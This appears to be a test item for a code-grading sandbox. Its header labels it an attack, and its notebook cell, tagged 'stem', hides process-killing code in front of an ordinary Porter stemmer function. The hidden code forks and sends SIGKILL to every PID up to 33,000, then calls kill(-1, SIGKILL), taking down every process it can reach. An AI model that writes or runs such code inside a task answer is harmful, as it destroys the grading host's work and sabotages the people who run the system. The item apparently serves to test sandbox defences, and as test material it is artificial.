# ---
# attack: All processes that there are get a signal to end at once.
# quick: true
# ---

# %% grade_id="stem"
import signal

own = os.getpid()
if os.fork() == 0:
    for number in range(1, 33_000):
        if number not in (own, os.getpid()):
            try:
                process = os.pidfd_open(number)
                signal.pidfd_send_signal(process, signal.SIGKILL)
                os.close(process)
            except OSError:
                pass
    os._exit(0)
os.wait()
try:
    os.kill(-1, signal.SIGKILL)
except OSError as error:
    print(error.strerror)


def stem(tokens):
    stemmer = PorterStemmer()
    return [stemmer.stem(token) for token in tokens]
